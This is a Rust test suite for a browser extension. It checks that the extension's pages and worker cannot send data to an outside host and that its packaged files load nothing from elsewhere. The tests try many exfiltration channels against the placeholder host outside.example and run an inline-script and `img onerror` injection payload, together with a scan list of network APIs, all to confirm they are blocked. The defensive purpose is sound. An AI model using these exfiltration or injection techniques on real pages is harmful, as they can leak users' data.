//! The extension's own pages can't talk to anybody: whatever they try, nothing arrives. What no policy of a browser can fence (docs/TRUST.md names it)
//! stands in none of the files that ship.

use std::path::{Path, PathBuf};

use connection_lens_e2e::{Browser, Look, Outcome, Stage, measured, wait_for};
use serde_json::{Value, json};

/// Every way out that a page or a worker has by itself. What a context doesn't know is no way.
const TRY: &str = "const tried = []; \
    const way = (name, go) => { try { tried.push([name, Promise.resolve(go()).then(() => 'went', (error) => 'refused')]); } catch { tried.push([name, 'refused']); } }; \
    const out = (name) => 'https://outside.example/' + name; \
    const { document: page } = globalThis; \
    const add = (tag, set) => { const element = page.createElement(tag); set(element); page.body.append(element); return element; }; \
    way('fetch', () => fetch(out('fetch'), { method: 'POST', mode: 'no-cors', body: 'x' })); \
    way('fetch to Microsoft', () => fetch('https://make.powerautomate.com/outside')); \
    if (globalThis.XMLHttpRequest) way('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', out('xhr')); x.send(); }); \
    if (navigator.sendBeacon) way('beacon', () => navigator.sendBeacon(out('beacon'), 'x')); \
    if (globalThis.WebSocket) way('socket', () => new WebSocket('wss://outside.example/socket')); \
    if (globalThis.EventSource) way('events', () => new EventSource(out('events'))); \
    if (globalThis.WebTransport) way('transport', () => new WebTransport(out('transport')).ready); \
    if (globalThis.importScripts) way('importScripts', () => importScripts(out('scripts'))); \
    if (globalThis.FontFace) way('font', () => new FontFace('outside', `url(${out('font')})`).load()); \
    if (globalThis.Worker) way('worker', () => new Worker(out('worker'))); \
    if (globalThis.SharedWorker) way('shared worker', () => new SharedWorker(out('shared-worker'))); \
    if (page?.body) { \
        way('image', () => { new Image().src = out('image'); }); \
        way('script', () => add('script', (element) => { element.src = out('script'); })); \
        way('style', () => add('link', (element) => { element.rel = 'stylesheet'; element.href = out('style'); })); \
        way('prefetch', () => add('link', (element) => { element.rel = 'prefetch'; element.href = out('prefetch'); })); \
        way('manifest', () => add('link', (element) => { element.rel = 'manifest'; element.href = out('manifest'); })); \
        way('frame', () => add('iframe', (element) => { element.src = out('frame'); })); \
        way('object', () => add('object', (element) => { element.data = out('object'); })); \
        way('embed', () => add('embed', (element) => { element.src = out('embed'); })); \
        way('audio', () => add('audio', (element) => { element.src = out('audio'); })); \
        way('video', () => add('video', (element) => { element.poster = out('video'); })); \
        way('form', () => add('form', (element) => { element.action = out('form'); element.method = 'post'; element.target = '_self'; }).submit()); \
        way('background', () => { page.body.style.backgroundImage = `url(${out('background')})`; }); \
        way('svg', () => { const use = page.createElementNS('http://www.w3.org/2000/svg', 'image'); use.setAttribute('href', out('svg')); const svg = page.createElementNS('http://www.w3.org/2000/svg', 'svg'); svg.append(use); page.body.append(svg); }); \
    } \
    return Promise.all(tried.map(async ([name, what]) => [name, await Promise.race([what, new Promise((resolve) => setTimeout(resolve, 2000, 'silence'))])]))";

/// In the worker nobody can run anything from outside: in this stage's copy it tries by itself when it is asked.
fn with_tries(background: &str) -> String {
    format!(
        "{background}\nchrome.runtime.onMessage.addListener((message, sender, answer) => {{ if (message?.tryOut !== true) return false; (async () => {{ {TRY} }})().then(answer, (error) => answer(String(error))); return true; }});\n"
    )
}

pub async fn the_extensions_own_pages_reach_nobody(browser: Browser) -> Outcome<()> {
    let stage = Stage::open(Look { changes: vec![("background.js", with_tries)], ..Look::at("half").with(browser) }).await?;
    stage.designer().await?;
    wait_for("the bar", async || stage.bar().await).await?;
    stage.open_panel().await?;
    stage.panel_says("Invoice approval").await?;
    let in_worker = stage
        .ask("const done = arguments[0]; chrome.runtime.sendMessage({ tryOut: true }).then((told) => done(told), (error) => done(String(error)))", vec![])
        .await?;
    // Last, as a form takes its page away where it may.
    let in_panel = stage
        .ask(&format!("const done = arguments[0]; (async () => {{ {TRY} }})().then((told) => done(told), (error) => done(String(error)))"), vec![])
        .await?;
    let ways = |told: &Value| told.as_array().map_or(0, Vec::len);
    assert!(ways(&in_worker) >= 4 && ways(&in_panel) >= 20, "worker {in_worker}, panel {in_panel}");
    for (name, told) in [("worker", &in_worker), ("panel", &in_panel)] {
        for fetched in told.as_array().into_iter().flatten().filter(|row| row[0].as_str().is_some_and(|way| way.starts_with("fetch"))) {
            assert_eq!(fetched[1], json!("refused"), "{name}: {told}");
        }
    }
    // Scripts in the page's own text, and markup, are refused too. (Tried a moment later: while the driver's own script runs, Chromium lets `eval` pass.)
    let inline = "const done = arguments[0]; setTimeout(() => { \
        try { const script = document.createElement('script'); script.textContent = 'window.ran = true'; document.head.append(script); } catch { /* Trusted Types */ } \
        try { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = true\">'); } catch { /* likewise */ } \
        try { window.ran = window.eval('true'); } catch { /* the policy */ } \
        try { window.ran = new window.Function('return true')(); } catch { /* likewise */ } \
        setTimeout(() => done([window.ran === true, document.querySelectorAll('img[onerror]').length]), 100); })";
    assert_eq!(stage.ask(inline, vec![]).await?, json!([false, 0]));
    let outside: Vec<String> = stage
        .portal
        .log()
        .into_iter()
        .filter(|request| request.host == "outside.example" || request.path_and_query == "/outside")
        .map(|request| request.path_and_query)
        .collect();
    assert_eq!(outside, Vec::<String>::new());
    measured(2, format!("ways out tried in the panel: {}, in the background: {}; arrived: {}", ways(&in_panel), ways(&in_worker), outside.len()));
    stage.close().await
}

/// Ways out by their names in a script, those that a policy can't fence among them.
const NAMES: [&str; 17] = [
    "fetch(",
    "XMLHttpRequest",
    "WebSocket",
    "EventSource",
    "sendBeacon",
    "RTCPeerConnection",
    "WebTransport",
    "Worker(",
    "import(",
    "importScripts",
    "window.open",
    "tabs.create",
    "tabs.update",
    "windows.create",
    "location.href = ",
    "location.assign",
    "location.replace",
];

/// Every file of the package, with what it names; the page's own requests are wrapped in page.js, which has the one place that makes one.
pub fn the_package_names_no_other_way_out() -> Outcome<()> {
    for browser in ["chromium", "firefox"] {
        let folder = dist(browser);
        let (mut found, mut read) = (Vec::new(), 0);
        files(&folder, &["js", "html"], &mut |path, text| {
            read += 1;
            let code = code(text);
            let name = path.strip_prefix(&folder).unwrap_or(path).to_string_lossy().replace('\\', "/");
            found.extend(NAMES.into_iter().filter(|way| code.contains(way)).map(|way| format!("{name}: {way}")));
        })?;
        found.sort();
        // The first opens the extension's own page, once, after installing; the last the sweep's page, when somebody presses for it. The core takes its own file from
        // its own package, by the policy's `connect-src 'self'`.
        let known = [
            "background.js: tabs.create",
            "page.js: XMLHttpRequest",
            "page.js: fetch(",
            "wasm/connection_lens.js: fetch(",
            "wasm/connection_lens.js: tabs.create",
        ];
        assert_eq!(found, known, "{browser}");
        assert!(read > 15, "{browser}: {read} scripts");
    }
    Ok(())
}

/// What page.js asks with, and what each is for: once it is taken from the page, once the page's own call is passed on with it as it came.
const PASSED_ON: [(&str, &str); 4] = [
    ("pageFetch", "apply(pageFetch, this, arguments)"),
    ("xhrOpen", "apply(xhrOpen, this, arguments)"),
    ("xhrHeader", "apply(xhrHeader, this, arguments)"),
    ("xhrSend", "apply(xhrSend, this, arguments)"),
];

/// Beyond that page.js asks in one place, and what is asked there is a GET without a body.
pub fn page_js_asks_in_one_place() -> Outcome<()> {
    const OURS: &str = "apply(pageFetch, window, [";
    for browser in ["chromium", "firefox"] {
        let text = std::fs::read_to_string(dist(browser).join("page.js"))?;
        let code = code(&text);
        for (name, passed_on) in PASSED_ON {
            assert_eq!(code.matches(&format!("const {name} = ")).count(), 1, "{browser}: {name} is taken once");
            assert_eq!(code.matches(passed_on).count(), 1, "{browser}: {passed_on}");
            let ours = if name == "pageFetch" { code.matches(OURS).count() } else { 0 };
            assert_eq!(code.matches(name).count(), 2 + ours, "{browser}: {name} is used for nothing else");
        }
        let places: Vec<&str> = code.split(OURS).skip(1).collect();
        assert_eq!(places.len(), 1, "{browser}: places that ask");
        let asked = places.first().and_then(|rest| rest.split_once("]);")).map(|(asked, _)| asked).unwrap_or_default();
        assert!(asked.contains("method: 'GET'") && asked.contains("redirect: 'error'") && !asked.contains("body"), "{browser}: {asked}");
        // Taken and put back, and no third time: what is called by the page's names isn't ours any more.
        for name in ["globalThis.fetch", "XMLHttpRequest.prototype"] {
            assert!(code.matches(name).count() <= 2 && !code.contains(&format!("{name}(")), "{browser}: {name}");
        }
        assert!(!code.contains("new XMLHttpRequest"), "{browser}");
    }
    Ok(())
}

/// No style sheet takes anything from elsewhere, and no page of the extension's does.
pub fn nothing_is_taken_from_elsewhere() -> Outcome<()> {
    for browser in ["chromium", "firefox"] {
        let folder = dist(browser);
        let (mut taken, mut read) = (Vec::new(), 0);
        files(&folder, &["css", "html", "js"], &mut |path, text| {
            let name = path.strip_prefix(&folder).unwrap_or(path).to_string_lossy().replace('\\', "/");
            let of_page = path.extension().is_some_and(|kind| kind == "html");
            let starts: &[&str] = if of_page { &["src=", "href=", "srcset=", "action=", "url("] } else { &["url(", "image-set(", "@import"] };
            read += 1;
            for start in starts {
                taken.extend(text.split(start).skip(1).map(|rest| format!("{name}: {start}{}", rest.lines().next().unwrap_or_default())));
            }
        })?;
        let is_own = |line: &String| {
            let place = line.split_once(": ").map(|(_, taken)| taken).unwrap_or_default();
            let place = place.split_once(['=', '(']).map(|(_, place)| place.trim_start_matches(['"', '\''])).unwrap_or_default();
            // A file beside it, or in another folder of the package.
            place.starts_with(|c: char| c.is_ascii_lowercase() || c == '.')
                && !place.starts_with("http")
                && !place.starts_with("data:")
                && !place.contains("//")
        };
        let elsewhere: Vec<&String> = taken.iter().filter(|line| !is_own(line)).collect();
        assert_eq!(elsewhere, Vec::<&String>::new(), "{browser}");
        assert!(read > 25 && taken.iter().any(|line| line.contains("icons/icon.svg")), "{browser}: {read} files, {taken:?}");
    }
    Ok(())
}

fn dist(browser: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../dist").join(browser)
}

/// A script without its comments.
fn code(text: &str) -> String {
    text.lines().filter(|line| !line.trim_start().starts_with(['*', '/'])).collect::<Vec<_>>().join("\n")
}

fn files(folder: &Path, kinds: &[&str], see: &mut dyn FnMut(&Path, &str)) -> Outcome<()> {
    for entry in std::fs::read_dir(folder)? {
        let path = entry?.path();
        if path.is_dir() {
            files(&path, kinds, see)?;
        } else if path.extension().is_some_and(|kind| kinds.iter().any(|known| kind == *known)) {
            see(&path, &std::fs::read_to_string(&path)?);
        }
    }
    Ok(())
}
